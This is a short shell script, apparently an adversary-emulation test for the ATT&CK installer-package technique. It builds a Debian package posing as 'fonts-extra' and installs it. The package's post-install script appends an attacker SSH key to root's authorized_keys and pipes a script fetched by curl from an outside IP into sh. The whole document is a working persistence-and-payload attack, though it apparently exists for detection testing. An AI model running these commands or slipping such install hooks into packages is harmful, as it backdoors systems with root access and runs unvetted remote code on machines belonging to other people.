# title: A package whose script opens a back door is installed
# technique: T1546.016
# needs: dpkg-deb dpkg
# writes: /usr

mkdir -p /tmp/p/DEBIAN && cd /tmp
printf 'Package: fonts-extra\nVersion: 1\nArchitecture: all\nMaintainer: x <x@example.org>\nDescription: x\n' >p/DEBIAN/control
printf '#!/bin/sh\necho "ssh-ed25519 AAAA evil" >>/root/.ssh/authorized_keys\ncurl -s http://192.88.99.7/x.sh | sh\n' >p/DEBIAN/postinst
chmod 755 p/DEBIAN/postinst
dpkg-deb --build p fonts.deb >/dev/null
dpkg -i fonts.deb
